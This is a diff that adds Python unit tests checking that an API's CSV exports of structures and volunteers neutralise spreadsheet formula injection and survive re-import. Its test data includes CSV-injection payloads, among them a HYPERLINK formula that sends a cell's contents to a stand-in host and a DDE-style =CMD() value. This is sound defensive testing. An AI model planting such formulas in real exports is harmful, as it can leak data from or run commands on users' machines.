@@ -323,5 +323,65 @@ class SearchPatterns(IntegrityTest):
         self.assertIn("81004", [c["insee"] for c in page["items"]])
 
 
+class CsvFormulas(IntegrityTest):
+    """Item 5: an exported text that a spreadsheet would run as a formula starts with a quote;
+    importing the export gives back the very values."""
+
+    FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1:A9)",
+                "\uff1dCMD()", "'=kept quote"]
+
+    def cells(self, text):
+        return list(csv.DictReader(io.StringIO(text)))
+
+    def fresh(self):
+        srv = sms_server({})
+        self.addCleanup(srv.cleanup)
+        token = srv.token("admin")
+        srv.start()
+        self.addCleanup(srv.stop)
+        return srv, token
+
+    def test_structures_export_neutralised_and_round_trip(self):
+        made = [self.create_record("structures", samples.structure(
+            name=f, contacts=[{"name": f, "phone": samples.phone(), "lang": "fr"}])) for f in self.FORMULAS]
+        ids = {m["id"] for m in made}
+        st, text, _ = self.api("GET", "/api/v1/structures/export")
+        self.assertEqual(st, 200)
+        rows = [r for r in self.cells(text) if int(r["id"]) in ids]
+        self.assertEqual(len(rows), len(self.FORMULAS))
+        for r, f in zip(sorted(rows, key=lambda r: int(r["id"])), self.FORMULAS):
+            self.assertEqual(r["name"], "'" + f)
+            self.assertEqual(r["contact_name"], "'" + f)
+            self.assertEqual(r["contact_phone"][:2], "'+")   # E.164 numbers start with +
+            self.assertNotEqual(r["lng"][:1], "'")  # numbers are written as they are
+        # the file imports back to the same values
+        other, token = self.fresh()
+        only = "\r\n".join([text.split("\r\n")[0]] + [l for l in text.split("\r\n")[1:] if l and int(l.split(",")[0]) in ids]) + "\r\n"
+        st, res, _ = other.http("POST", "/api/v1/structures/import", token=token, raw=only, content_type="text/csv")
+        self.assertEqual((st, res.get("created")), (201, len(self.FORMULAS)), res)
+        st, back, _ = other.http("GET", "/api/v1/structures/export?format=json", token=token)
+        self.assertEqual([(b["name"], b["contacts"][0]["name"], b["contacts"][0]["phone"]) for b in back["items"]],
+                         [(m["name"], m["contacts"][0]["name"], m["contacts"][0]["phone"]) for m in made])
+
+    def test_volunteers_export_neutralised_and_round_trip(self):
+        made = [self.create_record("volunteers", samples.volunteer(first_name=f, last_name="-" + f, skills=["-x", "y"]))
+                for f in self.FORMULAS[:4]]
+        st, text, _ = self.api("GET", "/api/v1/volunteers/export")
+        rows = {int(r["id"]): r for r in self.cells(text)}
+        for m in made:
+            r = rows[m["id"]]
+            self.assertEqual((r["first_name"][:1], r["last_name"][:2], r["phone"][:2], r["skills"]),
+                             ("'", "'-", "'+", "'-x;y"), r)
+        other, token = self.fresh()
+        lines = text.split("\r\n")
+        only = "\r\n".join([lines[0]] + [l for l in lines[1:] if l and int(l.split(",")[0]) in rows and
+                                          int(l.split(",")[0]) in {m["id"] for m in made}]) + "\r\n"
+        st, res, _ = other.http("POST", "/api/v1/volunteers/import", token=token, raw=only, content_type="text/csv")
+        self.assertEqual((st, res.get("created")), (201, len(made)), res)
+        st, back, _ = other.http("GET", "/api/v1/volunteers/export?format=json", token=token)
+        self.assertEqual([(b["first_name"], b["last_name"], b["phone"], b["skills"]) for b in back["items"]],
+                         [(m["first_name"], m["last_name"], m["phone"], m["skills"]) for m in made])
+
+
 if __name__ == "__main__":
     unittest.main()
